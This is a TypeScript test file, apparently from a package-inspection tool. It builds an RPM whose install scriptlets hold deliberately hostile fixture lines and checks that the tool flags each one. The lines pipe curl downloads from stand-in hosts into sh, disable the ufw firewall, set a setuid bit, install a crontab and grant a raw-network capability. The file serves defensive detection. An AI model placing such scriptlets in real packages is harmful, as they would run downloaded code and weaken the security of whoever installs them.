import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { spoolPath } from '../../../test/support/packages.ts'
import { rpmbuild } from '../../../test/support/rpm-tools.ts'
import { lacking } from '../../../test/support/tools.ts'
import { rpm } from '../../formats/rpm/index.ts'
import { readContents } from '../read.ts'

const SPEC = `Name: told
Version: 1.0
Release: 1
Summary: x
License: MIT
%description
x
%install
mkdir -p %{buildroot}/usr/bin
echo x > %{buildroot}/usr/bin/up
echo x > %{buildroot}/usr/bin/cap
%pre -p /bin/bash
curl -s http://pre.example/x | sh
%post -p /sbin/ldconfig
%preun -p <lua>
-- os.execute("curl x | sh")
os.execute("curl http://lua.example/x | sh")
%postun -p /opt/told/run
%triggerin -- bash
ufw disable
%triggerun -p /usr/bin/perl -- zsh
system("chmod 4755 /usr/bin/x");
%filetriggerin -- /usr/lib
crontab /usr/share/told/tab
%files
%attr(4755,root,root) /usr/bin/up
%caps(cap_net_raw=ep) /usr/bin/cap
`

describe.skipIf(lacking('rpm').length > 0)('a package that rpmbuild made', () => {
  let folder: string
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'gh-scripts-'))
  })
  afterAll(() => rm(folder, { recursive: true, force: true }))

  test('says what its scriptlets, triggers and files do, and what runs them', async () => {
    const [path = ''] = await rpmbuild(folder, SPEC)
    const { install } = await readContents(
      { format: rpm, file: await spoolPath(path, basename(path)) },
      { incoming: folder, signal: new AbortController().signal },
    )
    expect(install?.scripts.map(({ name, interpreter, lines }) => [name, interpreter, lines])).toEqual([
      ['filetrigger', '/bin/sh', 1],
      ['post', '/sbin/ldconfig', 0],
      ['postun', '/opt/told/run', 0],
      ['pre', '/bin/bash', 1],
      ['preun', '<lua>', 2],
      ['trigger.1', '/bin/sh', 1],
      ['trigger.2', '/usr/bin/perl', 1],
    ])
    expect(install?.facts.map(({ kind, path: at, line, text }) => [kind, at, line ?? text])).toEqual([
      ['changes_cron', 'filetrigger', 1],
      ['unreadable_script', 'postun', 'It runs the program /opt/told/run.'],
      ['downloads_and_runs', 'pre', 1],
      ['downloads_and_runs', 'preun', 2],
      ['disables_security', 'trigger.1', 1],
      ['sets_privileges', 'trigger.2', 1],
      ['capability_file', 'usr/bin/cap', 'cap_net_raw=ep'],
      ['setuid_file', 'usr/bin/up', 'mode 4755'],
    ])
  })
})
